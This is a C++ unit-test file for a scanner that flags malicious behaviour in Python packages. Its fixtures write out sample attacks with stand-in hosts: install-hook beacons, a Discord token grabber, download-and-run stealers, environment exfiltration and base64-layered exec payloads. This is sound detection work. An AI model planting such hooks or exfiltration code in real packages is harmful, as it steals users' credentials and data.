#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "base/text.h"
#include "examine/file_examination.h"
#include "examine/gate_set.h"
#include "examine/gates/behaviour/constant_decoder.h"
#include "examine/gates/behaviour/flow.h"
#include "examine/gates/behaviour/most_used_names.h"
#include "examine/gates/behaviour/payload.h"

// What the rules' own examples do not show: the parts, whole campaigns in one file, and hostile input.
namespace assay::behaviour {
namespace {

struct Setting {
  GateSet set;
  PatternEngine engine;
  PatternEngine::Scratch scratch;
};

Setting& setting() {
  static Setting made = [] {
    const std::vector<std::string> names{"behaviour"};
    auto set = GateSet::create(names).value();
    auto engine = PatternEngine::compile(set.gates).value();
    auto scratch = engine.make_scratch().value();
    return Setting{std::move(set), std::move(engine), std::move(scratch)};
  }();
  return made;
}

std::vector<Finding> findings_in(std::string_view path, std::string_view text,
                                 PathRole role = PathRole::shipped) {
  auto& [set, engine, scratch] = setting();
  return examine_file(set.gates, engine, scratch, {path, text, role}).value();
}

// "critical exfiltration, high drop-address": what weighs medium or more, the heaviest first.
std::string weighty(std::string_view path, std::string_view text) {
  auto findings = findings_in(path, text);
  std::erase_if(findings, [](const Finding& finding) { return finding.severity < Severity::medium; });
  std::ranges::sort(findings, [](const Finding& left, const Finding& right) {
    return std::tuple(right.severity, left.rule) < std::tuple(left.severity, right.rule);
  });
  std::vector<std::string> words;
  for (const Finding& finding : findings) {
    auto word = fmt::format("{} {}", to_string(finding.severity), finding.rule.substr(finding.rule.find('/') + 1));
    if (words.empty() || words.back() != word) words.push_back(std::move(word));
  }
  return join(words, ", ");
}

std::string decoded(const std::string& expression, const std::string& before = "") {
  const std::string source = before + "\nresult(" + expression + ")\n";
  const python::Module module(source);
  const auto& syntax = module.syntax();
  for (python::NodeId id = 1; id < syntax.nodes().size(); ++id) {
    if (!syntax.is(id, python::NodeKind::call) || module.callee(id) != "result") continue;
    ConstantDecoder decoder(module);
    const auto text = decoder.decode(module.argument(id, "", 0));
    return text ? fmt::format("{} by {}", *text, join(decoder.steps(), "+")) : "not known";
  }
  return "no such call";
}

TEST(ConstantDecoder, UndoesWhatHidesText) {
  EXPECT_EQ(decoded("base64.b64decode('aGk=')", "import base64"), "hi by base64");
  EXPECT_EQ(decoded("d('aGk=')", "from base64 import b64decode as d"), "hi by base64");
  EXPECT_EQ(decoded("base64.b32decode('NBUQ====')", "import base64"), "hi by base32");
  EXPECT_EQ(decoded("base64.b85decode('XlV')", "import base64"), "hi by base85");
  EXPECT_EQ(decoded("base64.a85decode('BP@')", "import base64"), "hi by ascii85");
  EXPECT_EQ(decoded("bytes.fromhex('6869')"), "hi by hex");
  EXPECT_EQ(decoded("binascii.unhexlify(b'6869').decode()", "import binascii"), "hi by hex");
  EXPECT_EQ(decoded("codecs.decode('uv', 'rot_13')", "import codecs"), "hi by rot_13");
  EXPECT_EQ(decoded("'ih'[::-1]"), "hi by reversed");
  EXPECT_EQ(decoded("''.join(reversed('ih'))"), "hi by reversed");
  EXPECT_EQ(decoded("chr(104) + chr(105)"), "hi by characters+characters");
  EXPECT_EQ(decoded("''.join(map(chr, [104, 105]))"), "hi by characters");
  EXPECT_EQ(decoded("bytes([104, 105])"), "hi by characters");
  EXPECT_EQ(decoded("'hXXi'.replace('XX', '')"), "hi by replaced");
  EXPECT_EQ(decoded("f('aWg=')", "import base64\nf = lambda x: base64.b64decode(x)[::-1]"), "hi by base64+reversed");
  EXPECT_EQ(decoded("__import__('base64').b64decode('aGk=')"), "hi by base64");
}

TEST(ConstantDecoder, OfAFileOnlySoMuchIsDecoded) {
  {
    const DecodingBudget budget;
    EXPECT_EQ(decoded("bytes.fromhex('6f6b')"), "ok by hex");
    EXPECT_TRUE(DecodingBudget::spend(47 << 20));
    EXPECT_FALSE(DecodingBudget::spend(2 << 20));
    EXPECT_EQ(decoded("bytes.fromhex('6f6b')"), "not known");
  }
  EXPECT_EQ(decoded("bytes.fromhex('6f6b')"), "ok by hex");
}

TEST(ConstantDecoder, KnowsNothingOfWhatIsNotConstantOrBroken) {
  EXPECT_EQ(decoded("base64.b64decode(x)", "import base64"), "not known");
  EXPECT_EQ(decoded("bytes.fromhex('6')"), "not known");
  EXPECT_EQ(decoded("zlib.decompress(b'nothing')", "import zlib"), "not known");
  EXPECT_EQ(decoded("chr(0xD800)"), "not known");
  EXPECT_EQ(decoded("chr(-1)"), "not known");
  EXPECT_EQ(decoded("f(f)", "f = lambda x: x(x)"), "not known");
}

TEST(Payload, IsReadThroughItsLayers) {
  EXPECT_EQ(acts_in_words("import os;os.system('id')"), "calls os.system()");
  EXPECT_EQ(acts_in_words("import base64;exec(base64.b64decode('" + base64("import os;os.popen('id')") + "'))"),
            "calls os.popen()");
  EXPECT_EQ(acts_in_words("x = 1"), "");
  std::string nested = "import subprocess;subprocess.Popen('id')";
  for (int i = 0; i < 30; ++i) nested = "import base64;exec(base64.b64decode('" + base64(nested) + "'))";
  EXPECT_EQ(acts_in_words(nested.size() < (1 << 20) ? nested : "x"), nested.size() < (1 << 20) ? "calls subprocess.Popen()" : "");
}

TEST(Likeness, IsNearAndNotTheSame) {
  EXPECT_FALSE(likeness_of("requests"));
  EXPECT_FALSE(likeness_of("a-name-of-its-own"));
  EXPECT_EQ(likeness_of("requestss")->known, "requests");
  EXPECT_EQ(likeness_of("reqeusts")->known, "requests");
  EXPECT_EQ(likeness_of("colorarna")->kind, Likeness::Kind::same_look);
  EXPECT_EQ(likeness_of("co1orama")->kind, Likeness::Kind::same_look);
  EXPECT_EQ(likeness_of("python-requests")->kind, Likeness::Kind::decorated);
  EXPECT_TRUE(differ_by_one("abc", "abcd"));
  EXPECT_TRUE(differ_by_one("abcd", "acbd"));
  EXPECT_FALSE(differ_by_one("abcd", "abcd"));
  EXPECT_FALSE(differ_by_one("abcd", "badc"));
}

// Modelled on published descriptions of campaigns; each of its own make.
TEST(Behaviour, KnowsWholeCampaigns) {
  // A beacon by dependency confusion: who installed it, over HTTP and by names that are looked up.
  EXPECT_TRUE(weighty("setup.py",
                      "import os, socket, json, getpass\n"
                      "from setuptools import setup\n"
                      "from setuptools.command.install import install\n"
                      "from urllib import request, parse\n"
                      "class CrazyInstall(install):\n"
                      "    def run(self):\n"
                      "        install.run(self)\n"
                      "        ploads = {'hostname': socket.gethostname(), 'cwd': os.getcwd(), 'user': getpass.getuser()}\n"
                      "        request.urlopen('https://x.oastify.com/?' + parse.urlencode(ploads))\n"
                      "setup(name='x', cmdclass={'install': CrazyInstall})\n")
                  .starts_with("high drop-address, high exfiltration"));
  // A stealer that was fetched in two steps, without a window.
  EXPECT_TRUE(weighty("pkg/__init__.py",
                      "import subprocess, sys, os\n"
                      "def _v():\n"
                      "    p = os.path.join(os.getenv('TEMP'), 'w.pyw')\n"
                      "    import requests\n"
                      "    with open(p, 'w', encoding='utf-8') as f:\n"
                      "        f.write(requests.get('https://cdn.example.com/w').text)\n"
                      "    subprocess.Popen(['pythonw', p], creationflags=subprocess.CREATE_NO_WINDOW)\n"
                      "try:\n"
                      "    _v()\n"
                      "except Exception:\n"
                      "    pass\n")
                  .starts_with("critical download-and-run"));
  // A token grabber as a class that the module makes itself.
  EXPECT_TRUE(weighty("pkg/grab.py",
                      "import os, re, json, urllib.request\n"
                      "HOOK = 'https://discord.com/api/webhooks/0/none'\n"
                      "class G:\n"
                      "    def __init__(self):\n"
                      "        self.found = set()\n"
                      "        self.paths = {'Discord': os.getenv('APPDATA') + r'\\discord\\Local Storage\\leveldb'}\n"
                      "        self.collect()\n"
                      "        self.send()\n"
                      "    def collect(self):\n"
                      "        for name, path in self.paths.items():\n"
                      "            for file in os.listdir(path):\n"
                      "                for line in open(os.path.join(path, file), errors='ignore'):\n"
                      "                    self.found.update(re.findall(r'[\\w-]{24}\\.[\\w-]{6}', line))\n"
                      "    def send(self):\n"
                      "        body = json.dumps({'content': '\\n'.join(self.found)}).encode()\n"
                      "        urllib.request.urlopen(urllib.request.Request(HOOK, data=body))\n"
                      "G()\n")
                  .starts_with("critical exfiltration"));
  // What comes of a paste site is run by the set-up of a development install.
  EXPECT_TRUE(weighty("setup.py",
                      "from setuptools import setup\n"
                      "from setuptools.command.egg_info import egg_info\n"
                      "import requests\n"
                      "def fetch():\n"
                      "    return requests.get('https://pastebin.com/raw/none')\n"
                      "class E(egg_info):\n"
                      "    def run(self):\n"
                      "        exec(fetch().text)\n"
                      "        super().run()\n"
                      "setup(cmdclass=dict(egg_info=E))\n")
                  .starts_with("critical download-and-run"));
  // All variables by way of a helper and a list.
  EXPECT_TRUE(weighty("pkg/client.py",
                      "import os, http.client as h\n"
                      "def collect():\n"
                      "    out = []\n"
                      "    for k in os.environ:\n"
                      "        out.append((k, os.environ[k]))\n"
                      "    return dict(os.environ, n=len(out))\n"
                      "def go(c=h.HTTPSConnection('x.example.com')):\n"
                      "    c.request('POST', '/', str(collect()))\n")
                  .starts_with("critical exfiltration"));
  // Two layers of decoders, the name of exec hidden too.
  const std::string inner = "import base64;exec(base64.b64decode('" + base64("__import__('os').system('id')") + "'))";
  EXPECT_TRUE(weighty("pkg/a.py", "import base64\ne = getattr(__builtins__, 'ex' + 'ec')\ne(base64.b64decode('" +
                                      base64(inner) + "'))\n")
                  .starts_with("critical hidden-payload, high hidden-call"));
  // An import line of a .pth file that decodes what it runs.
  EXPECT_TRUE(weighty("boot.pth", "import base64;exec(base64.b64decode('" + base64("import os;os.system('id')") + "'))\n")
                  .starts_with("critical hidden-payload, high start-file"));
}

TEST(Behaviour, TellsWhatAPayloadDoesAndByWhichWay) {
  const auto findings = findings_in(
      "pkg/__init__.py", "import base64\ndef go():\n    exec(base64.b64decode('" +
                             base64("import os\nos.system('id')") + "'))\ngo()\n");
  const auto found = std::ranges::find(findings, "behaviour/hidden-payload", &Finding::rule);
  ASSERT_NE(found, findings.end());
  EXPECT_TRUE(found->message.contains("calls os.system()")) << found->message;
  EXPECT_TRUE(found->message.contains("when the module is imported (through go)")) << found->message;
  EXPECT_EQ(found->symbol, "go");
}

// Words that stand in strings of tests and documents are no behaviour.
TEST(Behaviour, IsNoneInTextAboutIt) {
  EXPECT_EQ(weighty("tests/test_rules.py",
                    "CASES = ['exec(base64.b64decode(x))', 'requests.post(url, data=os.environ)', 'curl x | sh']\n"
                    "def test():\n"
                    "    for case in CASES:\n"
                    "        assert scan(case)\n"),
            "");
  EXPECT_EQ(weighty("pkg/rules.py",
                    "import requests, os, base64, subprocess\n"
                    "PATHS = ['~/.ssh/id_rsa', 'Login Data', '/etc/passwd']\n"
                    "def get(url):\n"
                    "    return requests.get(url, timeout=float(os.environ.get('TIMEOUT', 1)))\n"
                    "def decode(x):\n"
                    "    return base64.b64decode(x)\n"
                    "def run(x):\n"
                    "    return subprocess.run(x, env=dict(os.environ))\n"),
            "");
}

TEST(Behaviour, HasTheSameFingerprintsWhenCodeMoves) {
  const std::string code = "import requests\nrequests.post('https://discord.com/api/webhooks/0/none')\n";
  const auto before = findings_in("pkg/__init__.py", code);
  const auto after = findings_in("pkg/other.py", "# a comment\n\nX = 1\n" + code);
  ASSERT_FALSE(before.empty());
  ASSERT_EQ(before.size(), after.size());
  for (std::size_t i = 0; i < before.size(); ++i) EXPECT_EQ(before[i].fingerprint(), after[i].fingerprint());
}

TEST(Behaviour, EndsWithHostileInput) {
  std::string deep = "import base64, requests\nexec(";
  for (int i = 0; i < 3000; ++i) deep += "base64.b64decode(";
  findings_in("a.py", deep + "'aGk='" + std::string(3000, ')') + ")\n");

  // Each name doubles the one before it: 2^40 bytes if it were written out.
  std::string doubling = "import zlib\na0 = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n";
  for (int i = 1; i < 40; ++i) doubling += fmt::format("a{} = a{} + a{}\n", i, i - 1, i - 1);
  findings_in("b.py", doubling + "exec(zlib.decompress(a39))\n");

  // Functions that all call each other and hand on what they are given.
  std::string web = "import requests, os\n";
  for (int i = 0; i < 300; ++i) web += fmt::format("def f{}(x):\n  return f{}(f{}(x))\n", i, (i * 7 + 1) % 300, (i * 11 + 5) % 300);
  findings_in("c.py", web + "requests.post(f0(os.environ.copy()))\n");

  std::string wide = "import requests, os\nx = os.environ.copy()\n";
  for (int i = 0; i < 20'000; ++i) wide += fmt::format("x{} = x\n", i);
  findings_in("d.py", wide + "requests.post('u', x)\n");

  findings_in("e.py", "exec(base64.b64decode(" + std::string(1, '\0') + "\xff\xfe" "__import__(");
  findings_in("f.py", "import os;" + std::string(5 << 20, ' ') + "exec(x)\n");
  findings_in("pyproject.toml", "name = " + std::string(5000, '[') + "\nrequires = [\n");
  findings_in("METADATA", "Name: " + std::string(1 << 20, 'a') + "\n");
  findings_in("g.py", "# " + replace_all(std::string(200'000, 'x'), "x", "\xF3\xA0\x81\xA1") + "\n");
}

TEST(HostileInput, OfVeryManyPlacesSoManyAreLookedAtAndTheRestIsSaid) {
  std::string text = "import socket\ns = socket.socket()\n";
  for (int i = 0; i < 6000; ++i) text += "s.connect(('192.0.2.1', 5)); exec(s.recv(5))\n";
  auto& [set, engine, scratch] = setting();
  const ExaminedFile file{"pkg/__init__.py", text, PathRole::shipped};
  const auto hits = engine.scan(text, scratch).value();
  std::vector<Finding> findings;
  set.gates.front()->examine(file, hits.front().hits, findings);
  for (const std::string rule : {"behaviour/download-and-run", "behaviour/early-network"}) {
    EXPECT_EQ(std::ranges::count(findings, rule, &Finding::rule), 5000) << rule;
    EXPECT_EQ(std::ranges::count_if(findings, [&](const Finding& finding) {
                return finding.rule == "behaviour/too-many-places" && finding.excerpt == rule;
              }), 1) << rule;
  }
}

}  // namespace
}  // namespace assay::behaviour
